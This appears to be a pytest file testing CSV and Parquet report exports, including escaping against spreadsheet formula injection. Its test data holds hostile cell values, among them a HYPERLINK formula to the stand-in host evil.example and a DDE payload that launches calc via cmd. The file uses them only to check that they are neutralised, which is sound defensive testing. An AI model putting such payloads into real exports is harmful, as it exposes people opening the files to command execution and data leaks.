"""CSV and Parquet exports: BOM, quoting, OWASP escaping, exact amounts, zone offsets, typed Parquet."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import polars as pl
import pyarrow as pa  # type: ignore[import-untyped]
import pyarrow.parquet as pq  # type: ignore[import-untyped]
import pytest

from recon.demo import run_demo
from recon.store import open_store
from reports import RENDERERS, ReportData, load_report
from reports.exports import render_csv, render_parquet
from reports.labels import headings
from reports.safe_cell import csv_text
from tests.scenario import DAY, Scenario, full_report

BOM = b"\xef\xbb\xbf"
HOSTILE = ['=HYPERLINK("http://evil.example/?x","click")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
           'quote " and, comma\r\nnew line', "普通文本", "ctrl\x01char", "=" + "x" * 40_000, "plain"]


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> ReportData:
    """The demo run's report read as `recon report --format csv,parquet` reads it: with every result row."""
    workdir = tmp_path_factory.mktemp("demo")
    _, summary, _ = run_demo(workdir)
    return full_report(workdir, summary.run_id)


def read_csv(path: Path) -> tuple[str, list[list[str]]]:
    raw = path.read_bytes()
    assert raw.startswith(BOM)
    text = raw[len(BOM):].decode("utf-8")
    return text, list(csv.reader(io.StringIO(text, newline="")))


def quoted_all(rows: list[list[str]]) -> str:
    out = io.StringIO(newline="")
    csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


def hostile(data: ReportData) -> ReportData:
    """``data`` with every text column of both frames replaced by formula-like and awkward strings."""
    def poison(frame: pl.DataFrame) -> pl.DataFrame:
        values = [HOSTILE[i % len(HOSTILE)] for i in range(frame.height)]
        return frame.with_columns(
            pl.Series(name, values[k:] + values[:k], dtype=pl.String)
            for k, (name, dtype) in enumerate(frame.schema.items()) if dtype == pl.String and name != "code")
    return dataclasses.replace(data, results=poison(data.results), exceptions=poison(data.exceptions))


def test_renderers_registered_and_named(demo: ReportData, tmp_path: Path) -> None:
    paths = RENDERERS["csv"](demo, tmp_path, "zh-CN") + RENDERERS["parquet"](demo, tmp_path, "zh-CN")
    stem = f"recon_2026-11-20_run{demo.run_id}"
    assert [p.name for p in paths] == [f"{stem}_results.csv", f"{stem}_exceptions.csv",
                                       f"{stem}_results.parquet", f"{stem}_exceptions.parquet"]
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(p.name for p in paths)  # no temp files left


@pytest.mark.parametrize("part", ["results", "exceptions"])
def test_csv_escapes_every_text_cell_and_keeps_numbers(demo: ReportData, tmp_path: Path, part: str) -> None:
    data = hostile(demo)
    frame: pl.DataFrame = getattr(data, part)
    path = {p.name.split("_")[-1]: p for p in render_csv(data, tmp_path, "en")}[f"{part}.csv"]
    text, rows = read_csv(path)
    assert text == quoted_all(rows)  # every cell quoted, quotes doubled, CRLF line ends
    header, body = rows[0], rows[1:]
    columns = frame.columns
    assert header == [*columns[: columns.index("code") + 1], "code_label", *columns[columns.index("code") + 1:]]
    assert len(body) == frame.height
    zone = ZoneInfo(data.zone)
    for source, row in zip(frame.iter_rows(named=True), body, strict=True):
        cells = dict(zip(header, row, strict=True))
        for name, value in source.items():
            cell = cells[name]
            if isinstance(value, str) and name != "code":
                assert cell == csv_text(value), (name, value, cell)
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
            elif isinstance(value, Decimal):
                assert Decimal(cell) == value and not cell.startswith("'")  # exact, negative left as a number
                assert len(cell.split(".")[1]) >= 2
            elif isinstance(value, datetime):
                assert datetime.fromisoformat(cell) == value and datetime.fromisoformat(cell).utcoffset() \
                    == value.astimezone(zone).utcoffset()
            elif value is None:
                assert cell == ""
    diff = header.index("diff" if part == "results" else "difference")
    assert any(row[diff].startswith("-") for row in body)  # e.g. shop_only: -88.00, not '-88.00


def test_csv_amounts_round_trip_exactly(demo: ReportData, tmp_path: Path) -> None:
    extra = pl.DataFrame({"shop_amount": [Decimal("0.000120"), Decimal("-12345678901234.123456")]},
                         schema={"shop_amount": pl.Decimal(20, 6)})
    results = pl.concat([demo.results, demo.results.head(2).with_columns(extra["shop_amount"])], how="vertical")
    data = dataclasses.replace(demo, results=results)
    _, rows = read_csv(render_csv(data, tmp_path, "en")[0])
    cells = [r[rows[0].index("shop_amount")] for r in rows[1:]]
    assert [Decimal(c) for c in cells] == results["shop_amount"].to_list()
    assert cells[-2:] == ["0.00012", "-12345678901234.123456"]
    assert "30.00" in cells  # whole amounts keep their cents


def test_csv_headings_in_chinese_and_times_in_shop_zone(demo: ReportData, tmp_path: Path) -> None:
    _, rows = read_csv(render_csv(demo, tmp_path, "zh-CN")[1])
    h = headings("zh-CN")
    assert rows[0][:4] == [h["id"], h["code"], "差异说明", h["channel"]]
    by = {r[rows[0].index(h["order_no"])]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    shop_only = by["A8SHOPONLY000008"]
    assert shop_only[h["code"]] == "shop_only" and shop_only["差异说明"].startswith("店铺有")
    assert shop_only[h["created_at"]] == "2026-11-20T10:00:00+08:00"
    assert shop_only[h["difference"]] == "-88.00" and shop_only[h["auto_repairable"]] == "否"


def test_parquet_schema_and_values(demo: ReportData, tmp_path: Path) -> None:
    results_path, exceptions_path = render_parquet(demo, tmp_path, "zh-CN")
    for path, frame in ((results_path, demo.results), (exceptions_path, demo.exceptions)):
        table = pq.read_table(path)
        assert table.column_names == frame.columns  # canonical names whatever the language
        schema = table.schema
        assert schema.field("shop_amount").type == pa.decimal128(20, 6)
        assert schema.field("created_at").type == pa.timestamp("us", tz="Asia/Shanghai")
        assert pa.types.is_large_string(schema.field("order_no").type) or pa.types.is_string(
            schema.field("order_no").type)
        assert schema.field("business_date").type == pa.date32()
        assert table.column("shop_amount").to_pylist() == frame["shop_amount"].to_list()
        assert table.column("order_no").to_pylist() == frame["order_no"].to_list()
        assert table.column("created_at").to_pylist() == frame["created_at"].to_list()  # same instants
    exc = pq.read_table(exceptions_path)
    assert exc.schema.field("difference").type == pa.decimal128(20, 6)
    assert Decimal(-88) in exc.column("difference").to_pylist()


def test_hostile_order_number_from_a_real_run(scenario: Scenario, tmp_path: Path) -> None:
    scenario.order("GOOD0001", "10.00", trade_no="T1")
    scenario.import_(scenario.statement([
        {"txn": "T1", "order": "GOOD0001", "amount": "10.00"},
        {"txn": "T2", "order": "=cmd|' /C calc'!A0", "amount": "5.00"},
        {"txn": "T3", "order": "-1+2", "amount": "-3.50", "kind": "payment"},
    ]))
    scenario.run()
    with open_store(scenario.config, write=False) as con:
        data = load_report(con, DAY, None, scenario.config.shop.zone)
    _, rows = read_csv(render_csv(data, tmp_path / "out", "en")[1])
    orders = {r[rows[0].index("order_no")]: r for r in rows[1:]}
    assert "'=cmd|' /C calc'!A0" in orders
    assert "'-1+2" in orders
    assert not any(cell.startswith(("=", "+", "@")) for r in rows[1:] for cell in r)
